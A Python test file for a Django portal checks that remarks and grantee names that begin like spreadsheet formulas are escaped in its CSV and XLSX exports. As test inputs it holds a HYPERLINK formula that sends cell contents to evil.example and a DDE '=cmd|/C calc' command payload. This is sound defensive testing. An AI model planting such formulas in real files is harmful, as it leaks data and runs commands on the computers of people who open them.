"""Spreadsheet formula injection: remarks that start like a formula stay data in every CSV
and XLSX the portal writes (the open-data CSV, the admin's CSV export, the memo's CSV and
XLSX)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from capacities import services
from capacities.models import Capacity, Status
from memos.build import build_memo
from memos.render import render
from tests import factories

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Se opslaget")'
PHONE = "+45 33 66 33 66"


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_open_data_csv_neutralises_a_formula_remark_and_keeps_a_phone_number():
    capacity = factories.capacity(Status.AWAITING_POSTING)
    services.post_capacity(
        capacity, by=factories.staff_user(), on=dt.date(2024, 3, 1), remark=HYPERLINK
    )
    other = factories.capacity(Status.AWAITING_POSTING, in_area="Ishøj")
    services.post_capacity(other, by=factories.staff_user(), on=dt.date(2024, 3, 1), remark=PHONE)
    cache.clear()

    rows = _rows(Client().get("/api/postings.csv").content)

    remarks = {row[0]: row[-1] for row in rows[1:]}
    assert remarks["Herlev"] == "'" + HYPERLINK
    assert remarks["Ishøj"] == "'" + PHONE
    # JSON is data for programs, not a spreadsheet: the remark exactly as typed.
    results = Client().get("/api/postings.json").json()["results"]
    assert {r["remark"] for r in results} == {HYPERLINK, PHONE}


def test_admin_csv_export_neutralises_a_grantee_that_starts_a_formula(editor_client):
    capacity = factories.capacity(Status.POSTED)
    services.grant_capacity(
        capacity,
        by=factories.staff_user(),
        on=dt.date(2024, 5, 1),
        grantee="=cmd|'/C calc'!A0",
        establishment_deadline=dt.date(2025, 1, 1),
    )
    response = editor_client.post(
        reverse("admin:capacities_capacity_changelist"),
        {"action": "export_csv", "_selected_action": [capacity.pk]},
    )
    rows = _rows(response.content)
    assert "'=cmd|'/C calc'!A0" in rows[1]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_memo_csv_and_xlsx_keep_formula_remarks_as_text():
    capacity = factories.capacity(Status.POSTED)
    services.grant_capacity(
        capacity,
        by=factories.staff_user(),
        on=dt.date(2024, 5, 1),
        grantee="Anne Holm",
        establishment_deadline=dt.date(2025, 1, 1),
        remark=HYPERLINK,
    )
    other = factories.capacity(Status.POSTED, in_area="Ishøj")
    services.grant_capacity(
        other,
        by=factories.staff_user(),
        on=dt.date(2024, 5, 1),
        grantee="Bo Berg",
        establishment_deadline=dt.date(2025, 1, 1),
        remark=PHONE,
    )
    memo = build_memo(dt.date.today())

    rows = _rows(render(memo, "csv"))
    assert {row[1]: row[-1] for row in rows[1:]} == {
        "Herlev": "'" + HYPERLINK,
        "Ishøj": "'" + PHONE,
    }

    sheet = load_workbook(io.BytesIO(render(memo, "xlsx")))["c. Tildelt"]
    cells = {row[0].value: row[4] for row in sheet.iter_rows(min_row=2, max_row=3)}
    assert cells["Herlev"].value == HYPERLINK
    assert cells["Herlev"].data_type == "s"  # a string, not a formula ("f")
    assert cells["Ishøj"].value == PHONE
    assert Capacity.objects.get(pk=capacity.pk).grant_remark == HYPERLINK
